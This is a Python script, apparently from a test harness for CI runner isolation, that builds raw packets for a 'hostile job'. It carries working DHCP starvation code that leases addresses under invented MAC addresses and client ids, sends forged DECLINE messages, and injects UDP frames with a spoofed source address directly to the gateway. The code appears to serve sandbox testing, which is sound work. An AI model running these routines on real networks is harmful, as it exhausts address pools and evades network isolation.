"""Packets that a hostile job sends, and what receives them. Runs as root inside a runner or on the machine.

Nothing but the standard library, because it is copied to where it runs.
"""

import os
import select
import socket
import struct
import sys
import time
from pathlib import Path

INTERFACE = "eth0"
BROADCAST = b"\xff" * 6
MAGIC = b"\x63\x82\x53\x63"
DISCOVER, OFFER, REQUEST, DECLINE, ACK = 1, 2, 3, 4, 5
CLIENT_ID, SERVER_ID, ADDRESS, KIND = 61, 54, 50, 53


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def hardware(text: str) -> bytes:
    return bytes.fromhex(text.strip().replace(":", ""))


def own_hardware() -> bytes:
    return hardware(Path(f"/sys/class/net/{INTERFACE}/address").read_text())


def packet(source: bytes, target: bytes, protocol: int, payload: bytes) -> bytes:
    """An IPv4 packet."""
    header = struct.pack("!BBHHHBBH", 0x45, 0, len(payload) + 20, 1, 0, 64, protocol, 0) + source + target
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


class Dhcp:
    """A client that talks to the DHCP server by frames of its own, with any hardware address and client id."""

    def __init__(self) -> None:
        self.hardware = own_hardware()
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.socket.bind((INTERFACE, 0))

    def send(self, kind: int, hardware: bytes, client: bytes, *options: tuple[int, bytes]) -> bytes:
        """Send one message; returns its transaction id."""
        transaction = os.urandom(4)
        head = struct.pack("!BBBB4sHH", 1, 1, 6, 0, transaction, 0, 0x8000)
        message = head + bytes(16) + hardware.ljust(16, b"\0") + bytes(192) + MAGIC
        for code, value in ((KIND, bytes([kind])), (CLIENT_ID, b"\0" + client), *options):
            message += bytes([code, len(value)]) + value
        message += b"\xff"
        datagram = struct.pack("!HHHH", 68, 67, len(message) + 8, 0) + message
        frame = packet(bytes(4), BROADCAST[:4], socket.IPPROTO_UDP, datagram)
        self.socket.send(BROADCAST + self.hardware + b"\x08\x00" + frame)
        return transaction

    def receive(self, transaction: bytes, wanted: int, timeout: float = 0.3) -> tuple[bytes, bytes] | None:
        """The address and the server of the answer to a message, or nothing."""
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            if not select.select([self.socket], [], [], left)[0]:
                return None
            frame = self.socket.recv(2048)
            message = frame[42:]
            if frame[23] != 17 or message[4:8] != transaction or message[236:240] != MAGIC:
                continue
            options = parse(message[240:])
            if options.get(KIND) == bytes([wanted]):
                return message[16:20], options.get(SERVER_ID, b"")
        return None

    def lease(self, hardware: bytes, client: bytes) -> tuple[bytes, bytes] | None:
        """Ask for a lease as some client; returns the address and the server."""
        offered = self.receive(self.send(DISCOVER, hardware, client), OFFER)
        if offered is None:
            return None
        address, server = offered
        asked = self.send(REQUEST, hardware, client, (ADDRESS, address), (SERVER_ID, server))
        return offered if self.receive(asked, ACK) else None

    def decline(self, hardware: bytes, client: bytes, address: bytes, server: bytes) -> None:
        """Say that somebody else has the address of a lease."""
        self.send(DECLINE, hardware, client, (ADDRESS, address), (SERVER_ID, server))


def parse(options: bytes) -> dict[int, bytes]:
    found = {}
    while options and options[0] != 255:
        code, length = options[0], options[1]
        found[code] = options[2 : 2 + length]
        options = options[2 + length :]
    return found


def starve(count: int) -> set[bytes]:
    """Collect leases: by invented hardware addresses, and by invented client ids after the own address is declined."""
    client, leases = Dhcp(), set()
    for number in range(2 * count):
        hardware, name = client.hardware, os.urandom(6)
        if number < count:
            hardware = b"\x00\x16\x3e" + os.urandom(3)
        if found := client.lease(hardware, name):
            leases.add(found[0])
            if number == count:
                client.decline(hardware, name, *found)
    return leases


def send(address: str, protocol: int, port: int) -> None:
    """Send one packet of an IP protocol (17: a datagram to the port), with broadcast allowed."""
    kind = (socket.SOCK_DGRAM, 0) if protocol == socket.IPPROTO_UDP else (socket.SOCK_RAW, protocol)
    with socket.socket(socket.AF_INET, *kind) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("0.0.0.0"))
        for _ in range(3):
            try:
                out.sendto(f"{address}/{protocol}".encode().ljust(64), (address, port))
            except OSError:
                # What was rejected before is reported by the next packet.
                continue


def send_by_gateway(address: str, port: int, gateway: str, source: str) -> None:
    """Send a datagram to any address as a frame to the gateway, whatever the routes of this instance are."""
    neighbours = (line.split() for line in Path("/proc/net/arp").read_text().splitlines())
    target = next(hardware(words[3]) for words in neighbours if words[0] == gateway)
    text = f"{address}/17".encode().ljust(64)
    datagram = struct.pack("!HHHH", 9998, port, len(text) + 8, 0) + text
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((INTERFACE, 0))
        whole = packet(socket.inet_aton(source), socket.inet_aton(address), socket.IPPROTO_UDP, datagram)
        out.send(target + own_hardware() + b"\x08\x00" + whole)


def listen(path: str, port: int, protocols: list[int]) -> None:
    """Write the text of each packet of these protocols that reaches this machine to a file, one line each."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
    sockets[0].bind(("0.0.0.0", port))
    for number in protocols:
        sockets.append(socket.socket(socket.AF_INET, socket.SOCK_RAW, number))
    with Path(path).open("w", buffering=1) as file:
        file.write("listening\n")
        while True:
            for ready in select.select(sockets, [], [])[0]:
                data = ready.recv(2048)
                text = data if ready is sockets[0] else data[20:]
                file.write(text.decode(errors="replace").strip() + "\n")


if __name__ == "__main__":
    what, *words = sys.argv[1:]
    if what == "starve":
        print(len(starve(int(words[0]))))
    elif what == "listen":
        listen(words[0], int(words[1]), [int(word) for word in words[2:]])
    elif what == "by-gateway":
        send_by_gateway(words[0], int(words[1]), *words[2:])
    else:
        for target in words:
            address, _, protocol = target.partition("/")
            send(address, int(protocol), int(what))
